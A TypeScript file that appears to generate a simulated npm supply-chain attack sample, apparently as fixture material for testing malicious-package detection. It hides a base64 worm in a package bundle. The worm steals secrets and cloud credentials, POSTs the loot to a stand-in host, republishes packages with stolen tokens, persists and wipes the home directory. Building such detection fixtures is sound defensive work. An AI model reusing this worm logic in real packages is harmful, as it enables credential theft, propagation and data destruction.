import { defineAttack } from "../attack.ts";
import { componentLibrary } from "../bases.ts";
import { renderBundle } from "../bundle.ts";
import {
  collectCloud,
  collectSecrets,
  dropAgentHooks,
  persistAs,
  republish,
  uploadToRepository,
  wipeHome,
} from "../fragments.ts";
import { commonScript } from "../guard.ts";
import { hideInTable, oneLine } from "../hiding.ts";
import type { PackageLine } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * TanStack, 11 May 2026: 42 packages, 84 versions; a poisoned cache of a workflow gave an OIDC token, so that provenance is valid. An
 * optional dependency on a git commit without a branch runs a bundle in its `prepare`; the bundle is in the tarball too.
 */
export const tanstack2026: Sample = defineAttack({
  id: "tanstack-2026",
  title: "An optional dependency on an orphaned commit runs a bundle, provenance valid",
  group: "takeover",
  trigger: "install",
  judged: [{ name: "@tanstack/react-router", version: "1.169.5" }],
  now: "2026-05-11T19:35:00Z",
  createLines: () => {
    const bundle = renderBundle(2_300_000, 94, [hideInTable(oneLine(worm), "base64")]);
    return [
      line("@tanstack/react-router", { bundle, at: ["2026-05-11T19:20:00Z", "2026-05-11T19:26:00Z"] }),
      line("@tanstack/router-core", { bundle, at: ["2026-05-11T19:20:30Z", "2026-05-11T19:26:20Z"] }),
    ];
  },
});

function line(name: string, { bundle, at }: { bundle: string; at: readonly [string, string] }): PackageLine {
  const change = {
    manifest: {
      optionalDependencies: {
        "@tanstack/setup": "github:tanstack/router#79ac49eedf774dd4b0cfa308722bc463cfe5885c",
      },
    },
    files: [{ path: "router_init.js", content: bundle }],
  };
  return {
    name,
    files: componentLibrary(name),
    way: "trusted-publisher",
    releases: [
      ["1.167.0", "2026-04-20T10:00:00Z"],
      ["1.168.0", "2026-04-28T10:00:00Z"],
      ["1.169.2", "2026-05-08T10:00:00Z"],
      ["1.169.5", at[0], change],
      ["1.169.8", at[1], change],
    ],
  };
}

const worm = commonScript(`
${collectSecrets}
${collectCloud}
${dropAgentHooks}
${uploadToRepository("Inert: Beautiful Sands of Time")}
${republish}
${persistAs("gh-token-monitor")}
${wipeHome}
function watchToken(token) {
  setInterval(async () => {
    const reply = await fetch("https://api.codehost.invalid/user", { headers: { Authorization: "Bearer " + token } });
    if (reply.status === 401) { wipeHome(); }
  }, 60000);
}
async function sendToSeed() {
  await fetch("https://filev2.getsession.invalid/file", { method: "POST", body: Buffer.from(JSON.stringify(loot)).toString("base64") });
}
(async () => {
  await collectCloud().catch(() => {});
  await sendToSeed();
  dropAgentHooks();
  persist();
  if (process.env.GITHUB_TOKEN) { await uploadToRepository(process.env.GITHUB_TOKEN); watchToken(process.env.GITHUB_TOKEN); }
  if (npmToken()) { await republish(npmToken()); }
})();
`);
